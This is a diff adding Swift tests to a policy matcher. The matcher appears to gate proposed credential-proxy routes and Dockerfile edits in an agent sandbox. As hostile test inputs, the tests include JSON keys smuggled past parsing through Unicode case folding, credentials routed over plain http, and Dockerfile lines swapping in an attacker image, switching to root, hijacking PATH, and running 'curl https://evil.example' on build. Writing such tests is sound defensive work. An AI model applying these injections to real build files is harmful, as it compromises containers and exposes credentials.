@@ -321,6 +321,118 @@ struct PolicyMatcherTests {
         #expect(Self.verdict(widened, current: Self.currentRoutes, policy).rule == nil)
     }
 
+    @Test("routes: an empty methods list, or methods named twice, is never read as the rule's methods")
+    func routeMethodShapes() throws {
+        let policy = try Self.policy(Self.routesRule)
+        for route in [
+            // An empty list: cred-proxy may read it as "no restriction", so it is no narrower than every method.
+            #"{"path": "/gh/", "upstream": "https://api.github.com", "credential": "github-ro", "methods": []}"#,
+            #"{"path": "/gh/", "upstream": "https://api.github.com", "credential": "github-ro", "method": []}"#,
+            // Two method members: which one cred-proxy reads is its own business.
+            #"{"path": "/gh/", "upstream": "https://api.github.com", "credential": "github-ro", "method": "GET", "methods": ["DELETE"]}"#,
+            #"{"path": "/gh/", "upstream": "https://api.github.com", "credential": "github-ro", "methods": ["GET"], "Method": "POST"}"#,
+            #"{"path": "/gh/", "upstream": "https://api.github.com", "credential": "github-ro", "methods": ["GET"], "method": []}"#,
+            // A key that Unicode case folding (Go's encoding/json) reads as "methods": refused, not ignored.
+            #"{"path": "/gh/", "upstream": "https://api.github.com", "credential": "github-ro", "methods": ["GET"], "methodſ": ["DELETE"]}"#,
+            #"{"path": "/gh/", "upstream": "https://api.github.com", "credential": "github-ro", "methods": ["GET"], "\u006dethods": ["DELETE"]}"#,
+            // No methods member at all is every method.
+            #"{"path": "/gh/", "upstream": "https://api.github.com", "credential": "github-ro"}"#,
+        ] {
+            let verdict = Self.verdict(Self.routes(route), current: Self.currentRoutes, policy)
+            #expect(verdict.rule == nil, "approved: \(route)")
+        }
+        let empty = Self.verdict(
+            Self.routes(#"{"path": "/gh/", "upstream": "https://api.github.com", "credential": "github-ro", "methods": []}"#),
+            current: Self.currentRoutes, policy)
+        #expect(empty.passed.first?.reason.contains("names no methods") == true, "\(empty.passed)")
+        let twice = Self.verdict(
+            Self.routes(#"{"path": "/gh/", "upstream": "https://api.github.com", "method": "GET", "methods": ["GET"]}"#),
+            current: Self.currentRoutes, policy)
+        #expect(twice.passed.first?.reason.contains("methods twice") == true, "\(twice.passed)")
+        // A rule that allows every method (`*`, or no methods key) still approves an empty list.
+        let every = try Self.policy(Self.routesRule.replacingOccurrences(of: "methods = [\"GET\", \"HEAD\"]", with: "methods = [\"*\"]"))
+        let emptyUnderEvery = Self.verdict(
+            Self.routes(#"{"path": "/gh/", "upstream": "https://api.github.com", "credential": "github-ro", "methods": []}"#),
+            current: Self.currentRoutes, every)
+        #expect(emptyUnderEvery.rule?.name == "github-read", "\(emptyUnderEvery.reason) \(emptyUnderEvery.passed)")
+    }
+
+    @Test("routes: a credential over http:// (or no scheme) asks unless the rule says allow_http = true")
+    func routeCleartextCredential() throws {
+        let policy = try Self.policy(Self.routesRule)
+        for upstream in ["http://api.github.com", "HTTP://api.github.com:80/v3/", "api.github.com"] {
+            let route = #"{"path": "/gh/", "upstream": "\#(upstream)", "credential": "github-ro", "methods": ["GET"]}"#
+            let verdict = Self.verdict(Self.routes(route), current: Self.currentRoutes, policy)
+            #expect(verdict.rule == nil, "approved: \(route)")
+            #expect(verdict.passed.first?.reason.contains("cleartext") == true, "\(upstream): \(verdict.passed)")
+        }
+        // Without a credential there is nothing to leak: plain http is an ordinary route.
+        let bare = Self.verdict(
+            Self.routes(#"{"path": "/gh/", "upstream": "http://api.github.com", "methods": ["GET"]}"#), current: Self.currentRoutes,
+            policy)
+        #expect(bare.rule?.name == "github-read", "\(bare.reason) \(bare.passed)")
+        // The operator's explicit opt-in.
+        let optIn = try Self.policy(Self.routesRule + "\nallow_http = true")
+        let route = #"{"path": "/gh/", "upstream": "http://api.github.com", "credential": "github-ro", "methods": ["GET"]}"#
+        #expect(Self.verdict(Self.routes(route), current: Self.currentRoutes, optIn).rule?.name == "github-read")
+        #expect(optIn.rules.first?.allowHTTP == true)
+        // policy check: a boolean, on a rule about routes that names upstreams.
+        #expect(throws: PolicyProblem.self) { try Self.policy(Self.routesRule + "\nallow_http = \"yes\"") }
+        #expect(throws: PolicyProblem.self) {
+            try Self.policy("[[policy.rule]]\nname = \"d\"\ntool = \"pipelock-block\"\nhosts = [\"a.example\"]\naction = \"approve\"\nallow_http = true")
+        }
+        #expect(throws: PolicyProblem.self) {
+            try Self.policy(
+                "[[policy.rule]]\nname = \"r\"\ntool = \"cred-proxy-block\"\nroutes = ['{\"upstream\": \"http://a.example\"}']\naction = \"approve\"\nallow_http = true")
+        }
+    }
+
+    @Test("Dockerfile: a capability rule approves additions only, not instructions that change what the kept ones mean")
+    func dockerfileAlterations() throws {
+        let current = "ARG BASE=debian:bookworm-slim\nFROM ${BASE}\nRUN apt-get update\nUSER agent\nCMD [\"agent\"]\n"
+        let policy = try Self.policy(
+            "[[policy.rule]]\nname = \"tools\"\ntool = \"capability-block\"\ncapability = true\nmax_risk = \"warning\"\naction = \"approve\"")
+        func verdict(_ proposed: String, against current: String? = current) -> PolicyEvaluator.Verdict {
+            let proposal = Proposal(
+                bottle: try! BottleSlug("web-1"), tool: .capabilityBlock, proposedFile: proposed, justification: "x",
+                currentFileSHA256: current.map { SHA256Hex.of($0) })
+            return Self.verdict(proposal, current: current, policy)
+        }
+        // Plain additions are still approved: a RUN between kept ones, an ENV or LABEL at the end.
+        for proposed in [
+            current.replacingOccurrences(of: "USER agent\n", with: "RUN apt-get install -y jq\nUSER agent\n"),
+            current + "ENV JQ_COLORS=1\nLABEL tools=jq\nEXPOSE 8080\n",
+        ] {
+            let approved = verdict(proposed)
+            #expect(approved.rule?.name == "tools", "\(proposed): \(approved.reason) \(approved.passed)")
+        }
+        for (what, proposed) in [
+            ("a new final stage", current + "FROM attacker/image:latest\n"),
+            ("a new final stage copying the old one", current + "FROM attacker/image:latest AS final\nCOPY --from=0 / /\n"),
+            ("a stage in the middle", current.replacingOccurrences(of: "USER agent\n", with: "FROM attacker/image\nUSER agent\n")),
+            ("a stage ahead named like the base", "FROM attacker/image AS debian\n" + current),
+            ("USER root at the end", current + "USER root\n"),
+            ("USER root in the middle", current.replacingOccurrences(of: "RUN apt-get update\n", with: "USER root\nRUN apt-get update\n")),
+            ("a global ARG before FROM", "ARG BASE=attacker/image\n" + current),
+            ("ENV PATH before a kept RUN", current.replacingOccurrences(of: "RUN apt-get", with: "ENV PATH=/tmp/evil:$PATH\nRUN apt-get")),
+            ("WORKDIR before a kept RUN", current.replacingOccurrences(of: "RUN apt-get", with: "WORKDIR /tmp\nRUN apt-get")),
+            ("VOLUME before kept instructions", current.replacingOccurrences(of: "RUN apt-get", with: "VOLUME /var/lib/apt\nRUN apt-get")),
+            ("SHELL", current.replacingOccurrences(of: "RUN apt-get", with: "SHELL [\"/tmp/sh\", \"-c\"]\nRUN apt-get")),
+            ("ONBUILD", current + "ONBUILD RUN curl https://evil.example\n"),
+            ("ENTRYPOINT", current + "ENTRYPOINT [\"/tmp/evil\"]\n"),
+            ("a second CMD", current + "CMD [\"/tmp/evil\"]\n"),
+            ("HEALTHCHECK", current + "HEALTHCHECK CMD /tmp/evil\n"),
+            ("STOPSIGNAL", current + "STOPSIGNAL SIGKILL\n"),
+            ("lower case user", current + "user root\n"),
+        ] {
+            let asked = verdict(proposed)
+            #expect(asked.rule == nil, "\(what) was approved")
+            #expect(asked.passed.first?.reason.contains("changes what the kept instructions mean") == true, "\(what): \(asked.passed)")
+        }
+        // A Dockerfile where there was none: its FROM is an image nobody chose.
+        #expect(verdict("FROM debian:bookworm-slim\nRUN true\n", against: nil).rule == nil)
+    }
+
     @Test("host patterns are refused unless they are plain hostnames or *.domain")
     func patterns() throws {
         for bad in ["*", "*.com", "docs.python.org.", "docs.pythön.org", "docs.*.org", "a*.example.com", "https://x.example", "x.example:443", "", " a.example"] {
